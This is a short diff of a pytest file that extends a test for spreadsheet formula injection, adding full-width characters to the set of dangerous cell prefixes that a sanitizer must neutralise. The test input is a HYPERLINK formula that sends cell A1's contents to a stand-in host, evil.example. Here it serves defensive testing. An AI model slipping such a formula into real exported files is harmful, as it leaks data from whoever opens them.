@@ -476,7 +476,7 @@ def test_cs_03_an_error_shows_neither_a_path_nor_what_went_wrong(
 # exports and uploads
 
 
-@pytest.mark.parametrize("start", [*"=+-@\t\r", " =", "\n@"])
+@pytest.mark.parametrize("start", [*"=+-@＝＋－＠\t\r", " =", "\n@", " ＝"])
 def test_xi_01_a_cell_that_a_spreadsheet_would_run_is_text(start: str) -> None:
     assert safe(f'{start}HYPERLINK("https://evil.example?x="&A1,"Click")').startswith("'")
 
